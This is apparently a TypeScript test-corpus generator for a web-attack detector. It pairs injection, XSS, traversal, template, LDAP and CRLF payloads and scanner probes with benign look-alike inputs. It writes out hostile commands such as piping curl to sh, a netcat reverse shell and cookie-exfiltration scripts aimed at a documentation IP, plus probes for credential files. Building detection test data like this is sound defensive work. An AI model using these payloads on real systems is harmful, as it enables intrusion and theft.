/**
 * Values written from the grammars, for designing and checking the innate
 * layer away from CSIC (bench/detect-innate.ts): attacks per family, each in
 * the context it targets, encoded as scanners send them; and benign values of
 * the kinds that contain the same characters (names with apostrophes,
 * addresses, prices, formulas, prose with quotes and ampersands, file names,
 * URLs, JSON, markup-looking text). Seeded; nothing here comes from CSIC.
 */
import { createPrng } from '../../core/index.js'
import type { Prng } from '../../core/index.js'

export const CORPUS_FAMILIES = ['sql-injection', 'xss', 'javascript', 'command-injection', 'path-traversal', 'template-injection', 'ldap-injection', 'crlf-injection'] as const
export type CorpusFamily = typeof CORPUS_FAMILIES[number]

const pick = <T>(r: Prng, xs: readonly T[]): T => xs[r.nextInt(xs.length)]

const WORDS = ['admin', 'john', 'maria', 'item', 'shop', 'blue', 'order', 'search', 'alpha', 'garden', 'berlin', 'paris', 'green tea', 'coffee', 'lamp']
const N = (r: Prng): string => String(r.nextInt(10_000))
const CMDS = ['id', 'cat /etc/passwd', 'ls -la /', 'uname -a', 'wget http://198.51.100.7/x.sh', 'curl -s http://198.51.100.7/ | sh', 'whoami', 'nc -e /bin/sh 198.51.100.7 4444', 'sleep 10', 'ping -c 3 127.0.0.1', 'rm -rf /tmp/x']

const ATTACKS: Record<CorpusFamily, ReadonlyArray<(r: Prng) => string>> = {
  'sql-injection': [
    (r) => `${pick(r, WORDS)}' OR '1'='1`, (r) => `${pick(r, WORDS)}' or 1=1--`, (r) => `${N(r)} OR 1=1`, (r) => `${N(r)} AND ${N(r)}=${N(r)}`,
    (r) => `${N(r)} UNION SELECT username, password FROM users`, () => `' UNION ALL SELECT NULL,NULL,version()-- -`, (r) => `${pick(r, WORDS)}'; DROP TABLE users;--`,
    (r) => `${N(r)}; WAITFOR DELAY '0:0:5'--`, (r) => `${N(r)} AND SLEEP(5)`, (r) => `${pick(r, WORDS)}' AND (SELECT COUNT(*) FROM users) > 0 AND 'a'='a`,
    () => `admin'--`, () => `') OR ('x'='x`, (r) => `${N(r)}) OR (1=1`, () => `" OR ""="`, (r) => `${pick(r, WORDS)}" or 1=1 #`,
    (r) => `${N(r)} ORDER BY ${1 + r.nextInt(9)}--`, () => `' AND extractvalue(1,concat(0x7e,(SELECT user())))--`, (r) => `${N(r)}/**/UNION/**/SELECT/**/1,2,3`,
    (r) => `${pick(r, WORDS)}' AND benchmark(5000000,md5(1))#`, (r) => `-${N(r)} UNION SELECT 1,load_file('/etc/passwd')`, (r) => `${N(r)}' ; EXEC xp_cmdshell('dir')--`
  ],
  xss: [
    () => '<script>alert(1)</script>', (r) => `${pick(r, WORDS)}<script src=//198.51.100.7/x.js></script>`, () => '<img src=x onerror=alert(document.cookie)>',
    () => '"><svg onload=alert(1)>', () => "'><iframe src=javascript:alert(1)>", () => '" onmouseover="alert(1)', () => "' onfocus='alert(1)' autofocus='",
    () => 'javascript:alert(document.domain)', () => ' jAvAsCrIpT:alert(1)', () => '<body onload=alert(1)>', () => '<a href="javascript:alert(1)">x</a>',
    () => '<div style="background:url(javascript:alert(1))">', () => '</textarea><script>alert(1)</script>', () => '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    () => '<!--#exec cmd="id" -->', () => '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', () => '<details open ontoggle=alert(1)>', () => 'x onclick=alert(1)'
  ],
  javascript: [
    () => "';alert(1)//", () => '";alert(String.fromCharCode(88))//', () => "'-alert(1)-'", () => '"+alert(1)+"', () => "'};fetch('//198.51.100.7/'+document.cookie);//",
    () => "\\';alert(1)//", () => '`;alert`1`;`', () => "');document.location='//198.51.100.7/?c='+document.cookie;//", (r) => `${N(r)};alert(1)`
  ],
  'command-injection': [
    (r) => `${pick(r, WORDS)}; ${pick(r, CMDS)}`, (r) => `${N(r)} | ${pick(r, CMDS)}`, (r) => `${pick(r, WORDS)} && ${pick(r, CMDS)}`, (r) => `$(${pick(r, CMDS)})`,
    (r) => `\`${pick(r, CMDS)}\``, (r) => `${pick(r, WORDS)}\n${pick(r, CMDS)}`, () => ';cat${IFS}/etc/passwd', () => '() { :; }; /bin/bash -c "id"', (r) => `${N(r)}||${pick(r, CMDS)}`,
    (r) => `x'; ${pick(r, CMDS)}; echo '`, () => '|/bin/sh -i'
  ],
  'path-traversal': [
    () => '../../../etc/passwd', () => '..\\..\\..\\windows\\win.ini', () => '....//....//etc/passwd', () => '/etc/passwd', () => '../../../../proc/self/environ',
    () => 'file:///etc/shadow', () => '../../WEB-INF/web.xml', () => 'report.pdf\0.jpg', () => 'C:\\boot.ini', (r) => `${pick(r, WORDS)}/../../../../etc/hosts`
  ],
  'template-injection': [
    () => '{{7*7}}', () => "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", () => '${7*7}', () => "${T(java.lang.Runtime).getRuntime().exec('id')}",
    () => "<%= system('id') %>", () => '#{7*7}', () => "{{''.constructor.constructor('alert(1)')()}}", () => "{% import os %}{{os.system('id')}}", () => '*{T(java.lang.System).getenv()}'
  ],
  'ldap-injection': [
    () => '*)(uid=*))(|(uid=*', () => 'admin)(&)', () => '*)(|(objectClass=*)', (r) => `${pick(r, WORDS)})(|(password=*))`, () => 'x)(cn=*)'
  ],
  'crlf-injection': [
    () => 'x\r\nSet-Cookie: session=attacker', () => 'en\r\nLocation: http://198.51.100.7/', (r) => `${pick(r, WORDS)}\nContent-Type: text/html`,
    () => 'x\r\n\r\n<html>owned</html>', () => '%0d%0aSet-Cookie:%20a=b'
  ]
}

/** The encodings scanners send a payload in; the corpus applies each to every payload it fits. */
export const CORPUS_ENCODINGS = ['form', 'url-all', 'double-url', 'html-entity', 'overlong'] as const
export type CorpusEncoding = typeof CORPUS_ENCODINGS[number]

function formEncode (s: string): string { return encodeURIComponent(s).replace(/%20/g, '+') }
function urlAll (s: string): string { return [...Buffer.from(s, 'utf8')].map((b) => '%' + b.toString(16).padStart(2, '0')).join('') }
function entities (s: string): string { return [...s].map((c) => /[<>"'()=:;/]/.test(c) ? `&#${c.charCodeAt(0)};` : c).join('') }
function overlong (s: string): string { return [...s].map((c) => c === '.' ? '%c0%ae' : c === '/' ? '%c0%af' : encodeURIComponent(c)).join('') }

/** A raw (form-encoded) query value for `payload` in `encoding`. */
export function encodePayload (payload: string, encoding: CorpusEncoding): string {
  switch (encoding) {
    case 'form': return formEncode(payload)
    case 'url-all': return urlAll(payload)
    case 'double-url': return encodeURIComponent(encodeURIComponent(payload))
    case 'html-entity': return formEncode(entities(payload))
    case 'overlong': return overlong(payload)
  }
}

export interface CorpusValue { family: CorpusFamily | 'benign', encoding: CorpusEncoding, raw: string, text: string }

/** Attack values: every template, `variants` seeded draws each, in every encoding that fits the family. */
export function attackCorpus (seed: number, variants = 3): CorpusValue[] {
  const r = createPrng(seed)
  const out: CorpusValue[] = []
  for (const family of CORPUS_FAMILIES) {
    const encodings: CorpusEncoding[] = family === 'path-traversal' ? ['form', 'url-all', 'double-url', 'overlong'] : family === 'xss' || family === 'javascript' ? ['form', 'url-all', 'double-url', 'html-entity'] : ['form', 'url-all', 'double-url']
    for (const make of ATTACKS[family]) {
      for (let v = 0; v < variants; v++) {
        const text = make(r)
        for (const encoding of encodings) {
          if (text.startsWith('%0d')) { out.push({ family, encoding, raw: text, text }); break }
          out.push({ family, encoding, raw: encodePayload(text, encoding), text })
        }
      }
    }
  }
  return out
}

const FIRST = ['Ana', 'Jean', 'María', 'Seán', 'Zoë', 'Li', 'Olu', 'Pål', 'D\'Arcy', 'Mary-Jane', 'José Luis']
const LAST = ["O'Brien", "D'Angelo", "L'Hospitalet", 'van der Berg', "d'Or", 'Smith & Sons', "N'Diaye", 'García-Márquez', "O'Neil-Smith", 'De la Cruz']
const STREETS = ["Carrer de l'Àngel 12, 3º 2ª", 'C/ Mayor 5, 1-B', "Rue de l'Église 7", '221B Baker St.', 'Calle Dulzaina 119 1C', 'Av. 9 de Julio 1000 (piso 3)', 'P.O. Box 4/12', "King's Road 10; Flat 2"]
const PROSE = ["It's a 2-for-1 deal: buy one & get one free!", 'Great product, 5/5 (would buy again)', 'Use "quotes" when searching', 'Tom & Jerry; Laurel & Hardy', 'a < b and c > d',
  'Price: $12.50 (incl. 20% VAT)', "Don't forget: meeting @ 10am -- bring slides", 'The <b> tag is bold', 'SELECT your size from the menu', 'Drop me a line or call me',
  'rock & roll', "I'd like 2 or 3 of these", 'Order #1234 - shipped', 'x = y + 1', '1 + 1 = 2', 'see (a) and (b)', 'e-mail me at ana@example.org', 'C:\\Users\\Ana\\report.docx',
  '../images/logo.png', 'https://example.org/search?q=tea&page=2', '{"id": 12, "tags": ["a", "b"]}', 'Hello {name}, your code is {code}', 'Q&A; FAQ', 'AT&T, B&Q, H&M',
  'fun & free', '50% off | today only', "It's 5 o'clock", 'Sales & marketing; R&D', '¿Qué tal? ¡Bien!', 'line one\nline two', 'Dear team,\r\nthanks: Ana', 'He said "no", then left',
  'Room 12-B (2nd floor)', 'ls', 'cat lovers', 'echo chamber', 'sleep well', 'find us', "Jean d'Or", 'tail', 'Bob\'s "best" burgers', "what's 7*7?", '#{1}', '${price}', '{{name}}']
// text that names files, URL schemes and statements, as support tickets and developer forums do (weak findings at most)
const TECH_PROSE = ['JavaScript: The Good Parts', 'I like javascript: it is fun', 'use a link with href="#" instead of javascript', 'European Union select committee',
  'Done; call me later', 'Tom; select your seat', 'see /etc/hosts-guide for help', 'backup the db; then update', 'my ~/.bashrc file', 'the file is report.old.pdf',
  'C:\\Users\\Ana\\Desktop\\list.txt', '/home/ana/documents/report.docx', 'src/main/app.js', 'v1.2.3 (build 45)', 'data: see attached', 'metadata:text/plain']
const PASSWORDS = ['p@ss;w0rd!', 'Tr0ub4dor&3', "it'sme#1", 'a|b|c|d', 'x$y%z^', 'P@$$w0rd()', '"quoted"', 'semi;colon', 'back`tick', 'p(a)ss']

/** Technical prose (support tickets, developer forums): each value once, form-encoded. The new weak signals may fire on some; strong ones must not. */
export function techProseCorpus (): CorpusValue[] {
  return TECH_PROSE.map((text) => ({ family: 'benign', encoding: 'form', raw: formEncode(text), text }))
}

/** Benign values of the kinds a web form receives, with the characters attacks use. */
export function benignCorpus (seed: number, count: number): CorpusValue[] {
  const r = createPrng(seed)
  const out: CorpusValue[] = []
  const gens: ReadonlyArray<() => string> = [
    () => `${pick(r, FIRST)} ${pick(r, LAST)}`, () => pick(r, STREETS), () => pick(r, PROSE), () => pick(r, PASSWORDS), () => `${pick(r, PROSE)} ${pick(r, PROSE)}`,
    () => `${r.nextInt(999)}.${r.nextInt(99)}`, () => `${1 + r.nextInt(28)}/${1 + r.nextInt(12)}/20${10 + r.nextInt(20)}`, () => `+34 ${600 + r.nextInt(99)}-${r.nextInt(999)}-${r.nextInt(999)}`,
    () => `${pick(r, WORDS)}-${r.nextInt(99)}.pdf`, () => `${pick(r, FIRST).toLowerCase()}.${pick(r, WORDS)}@example.org`, () => `${r.nextInt(100)} ${pick(r, ['or', 'and', 'x', '-', '+'])} ${r.nextInt(100)} ${pick(r, WORDS)}`
  ]
  for (let i = 0; i < count; i++) {
    const text = pick(r, gens)()
    out.push({ family: 'benign', encoding: 'form', raw: formEncode(text), text })
  }
  return out
}

/**
 * Requests for the probe grammar (grammars/probe.ts), written from what each
 * convention means, as scanners (dirb, nikto, nuclei's exposure templates)
 * send them: backup and editor copies of a page or a directory, server
 * includes and sources, version-control and server metadata, configuration
 * and dumps, a script behind a static file, write methods on scripts,
 * tracing and made-up methods. Benign: the paths and methods a living
 * application and its clients really use (REST routes with every method,
 * hashed assets, source maps, `.well-known`, platform routes such as
 * `/.auth`, user directories, PATH_INFO routes, downloads, WebDAV and
 * object storage of user files).
 */
export interface ProbeRequest { method: string, path: string }

const PAGES = ['/index.php', '/admin/login.jsp', '/app/config', '/shop/cart.aspx', '/wp-login.php', '/account/settings', '/api/v1/users', '/static/main.css', '/images/logo.png', '/']
const FILES = PAGES.filter((x) => x !== '/')
const ATTACK_PROBES: ReadonlyArray<(r: Prng) => ProbeRequest> = [
  (r) => ({ method: 'GET', path: `${pick(r, PAGES)}.${pick(r, ['bak', 'BAK', 'old', 'Old', 'orig', 'swp', 'backup', 'bkp', 'tmp', 'save', 'copy'])}` }),
  (r) => ({ method: 'GET', path: `${pick(r, FILES)}~` }),
  (r) => ({ method: 'GET', path: `${pick(r, FILES).replace(/\/([^/]*)$/, '/.$1')}.swp` }),
  (r) => ({ method: 'GET', path: `${pick(r, FILES).replace(/\/([^/]*)$/, '/%23$1%23')}` }),
  (r) => ({ method: 'GET', path: `${pick(r, ['/includes/config', '/lib/db', '/common', '/header'])}.${pick(r, ['inc', 'INC'])}` }),
  (r) => ({ method: 'GET', path: `${pick(r, ['/src/Main', '/WEB-INF/classes/App', '/App_Code/Util', '/Project'])}.${pick(r, ['java', 'cs', 'vb', 'csproj', 'sln'])}` }),
  (r) => ({ method: 'GET', path: `${pick(r, ['', '/app', '/shop'])}/${pick(r, ['.git/config', '.git/HEAD', '.svn/entries', '.svn/wc.db', '.hg/hgrc', '.bzr/README', 'CVS/Entries', '.DS_Store', '.env', '.env.production', '.htaccess', '.htpasswd', '.idea/workspace.xml', '.vscode/settings.json', '.aws/credentials', '.npmrc', 'WEB-INF/web.xml', 'META-INF/context.xml', 'web.config'])}` }),
  (r) => ({ method: 'GET', path: `${pick(r, ['', '/backup', '/db', '/logs', '/conf'])}/${pick(r, ['dump.sql', 'database.sql', 'users.mdb', 'app.sqlite', 'error.log', 'access.log', 'php.ini', 'my.cnf', 'nginx.conf', 'settings.cfg', 'app.config', 'server.pfx', 'keystore.jks', 'id.ppk'])}` }),
  (r) => ({ method: 'GET', path: `/uploads/${pick(r, ['avatar.jpg', 'photo.png', 'logo.gif', 'style.css'])}/${pick(r, ['x.php', 'shell.php5', 'a.phtml', 'cmd.jsp'])}` }),
  (r) => ({ method: 'GET', path: `${pick(r, ['/index.asp', '/default.aspx', '/login.php'])}::$DATA` }),
  (r) => ({ method: pick(r, ['PUT', 'MOVE', 'COPY', 'PATCH', 'DELETE']), path: `${pick(r, ['/shell', '/uploads/x', '/index', '/admin/test'])}.${pick(r, ['jsp', 'php', 'asp', 'aspx', 'jspx', 'cgi', 'phtml'])}` }),
  (r) => ({ method: pick(r, ['TRACE', 'TRACK', 'DEBUG', 'trace']), path: pick(r, PAGES) }),
  (r) => ({ method: pick(r, ['FOO', 'GETS', 'JEFF', 'CATS', 'HELLO', 'XYZZY']), path: pick(r, PAGES) })
]
const ASSET = (r: Prng): string => Array.from({ length: 8 }, () => '0123456789abcdef'[r.nextInt(16)]).join('')
const BENIGN_PROBES: ReadonlyArray<(r: Prng) => ProbeRequest> = [
  (r) => ({ method: pick(r, ['GET', 'PUT', 'PATCH', 'DELETE']), path: `/api/v${1 + r.nextInt(3)}/${pick(r, ['items', 'orders', 'users', 'carts'])}/${r.nextInt(100_000)}` }),
  (r) => ({ method: pick(r, ['POST', 'DELETE']), path: `/api/${pick(r, ['sessions', 'cart/items', 'backups', 'old-orders', 'logs'])}` }),
  (r) => ({ method: 'GET', path: `/static/${pick(r, ['app', 'vendor', 'main', 'chunk'])}.${ASSET(r)}.${pick(r, ['js', 'css', 'js.map', 'css.map', 'woff2'])}` }),
  (r) => ({ method: 'GET', path: pick(r, ['/.well-known/acme-challenge/Xy9_ab', '/.well-known/security.txt', '/.well-known/openid-configuration', '/.auth/login/aad/callback', '/.netlify/functions/subscribe', '/robots.txt', '/sitemap.xml', '/favicon.ico', '/feed.xml', '/manifest.webmanifest']) }),
  (r) => ({ method: 'GET', path: `/~${pick(r, ['ana', 'li', 'jdoe'])}/${pick(r, ['', 'index.html', 'cv.pdf', 'photos/'])}` }),
  (r) => ({ method: 'GET', path: `/index.php/${pick(r, ['blog', 'products', 'user'])}/${r.nextInt(500)}` }),
  (r) => ({ method: 'GET', path: `/downloads/${pick(r, ['setup-2.4.1.exe', 'manual.pdf', 'catalogue-2025.zip', 'data.csv', 'release-notes.txt', 'app.dmg'])}` }),
  (r) => ({ method: 'GET', path: `/_framework/${pick(r, ['blazor.webassembly.js', 'App.dll', 'System.Private.CoreLib.dll', 'dotnet.wasm'])}` }),
  (r) => ({ method: pick(r, ['GET', 'PUT', 'DELETE', 'PROPFIND', 'MKCOL', 'MOVE']), path: `/dav/files/${pick(r, ['ana', 'li'])}/${pick(r, ['holiday.jpg', 'notes.txt', 'thesis.docx', 'budget.xlsx', 'music/'])}` }),
  (r) => ({ method: pick(r, ['PUT', 'GET', 'HEAD', 'DELETE']), path: `/bucket/${pick(r, ['photos', 'avatars'])}/${ASSET(r)}.${pick(r, ['jpg', 'png', 'webp'])}` }),
  (r) => ({ method: pick(r, ['GET', 'HEAD', 'OPTIONS']), path: pick(r, ['/blog/2024/01/the-bold-and-the-old', '/docs/config/', '/settings/backup', '/releases/v1.2.3', '/tmp/', '/old/', '/docs/etc/', '/guides/web.configuration', '/en/cv.html']) }),
  (r) => ({ method: 'GET', path: `/product/${pick(r, ['red-wine', 'queso-curado', 'tea.green'])}${pick(r, ['', ';jsessionid=0A1B2C3D', '/reviews'])}` })
]

/** Probe requests (attacks) and benign requests of living applications, `n` of each, seeded. */
export function probeCorpus (seed: number, n: number): { attacks: ProbeRequest[], benign: ProbeRequest[] } {
  const r = createPrng(seed)
  const attacks: ProbeRequest[] = []
  const benign: ProbeRequest[] = []
  for (let i = 0; i < n; i++) attacks.push(ATTACK_PROBES[i % ATTACK_PROBES.length](r))
  for (let i = 0; i < n; i++) benign.push(BENIGN_PROBES[i % BENIGN_PROBES.length](r))
  return { attacks, benign }
}
